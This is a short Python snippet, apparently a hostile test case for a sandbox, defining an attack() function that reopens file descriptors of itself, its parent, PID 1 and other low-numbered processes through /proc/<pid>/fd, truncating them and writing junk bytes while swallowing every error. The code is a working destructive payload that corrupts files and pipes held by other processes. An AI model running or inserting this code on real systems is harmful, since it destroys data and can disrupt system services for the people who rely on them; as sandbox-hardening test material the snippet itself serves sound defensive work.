# Opens its own and its relatives' descriptors anew through /proc and writes to them.
def attack():
    import posix

    for process in ("self", "1", str(posix.getppid()), *[str(i) for i in range(2, 40)]):
        for handle in range(64):
            for flags in (
                posix.O_WRONLY | posix.O_NONBLOCK,
                posix.O_RDWR | posix.O_NONBLOCK,
                posix.O_WRONLY | posix.O_TRUNC | posix.O_NONBLOCK,
            ):
                try:
                    opened = posix.open(f"/proc/{process}/fd/{handle}", flags)
                    posix.write(opened, b"\x00\x00\x00\x01\xff" * 100)
                    posix.close(opened)
                except OSError:
                    pass
    return False
